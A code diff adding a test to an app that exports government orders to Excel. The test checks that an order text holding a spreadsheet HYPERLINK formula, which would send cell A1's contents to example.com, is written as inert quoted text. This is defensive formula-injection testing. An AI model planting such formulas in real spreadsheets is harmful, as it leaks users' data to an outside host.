@@ -191,3 +191,18 @@ async def test_served_in_a_browser_every_generated_draft_is_a_download(services,
     assert names[0] == out.name and browser[0].data == out.read_bytes()
     assert browser[0].mime_type == "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
     assert [Path(name).suffix for name in names[1:]] == [".xlsx"]  # the quarterly draft's change sheet
+
+
+async def test_a_formula_in_an_orders_text_reaches_excel_as_text(fake, tmp_path):
+    act = fake.add_act("распоряжение", "1-р", date(2026, 10, 1), "О формулах")
+    formula = '=HYPERLINK("http://example.com/?"&A1,"нажмите")'
+    fake.add_order(act, "1", formula, ["Министерство культуры"], date(2026, 12, 1))
+    app = make_app(fake, today=TODAY, drafts_dir=tmp_path)
+    async with app.run_test(size=SIZE) as pilot:
+        await pilot.press("f3", "slash")
+        await type_text(pilot, "HYPERLINK")
+        await pilot.press("ctrl+e")
+        await settle(pilot)
+    sheet = load_workbook(tmp_path / "поручения-2026-11-02.xlsx")["Поручения"]
+    cell = sheet["K2"]
+    assert cell.value == formula and cell.data_type == "s" and cell.quotePrefix
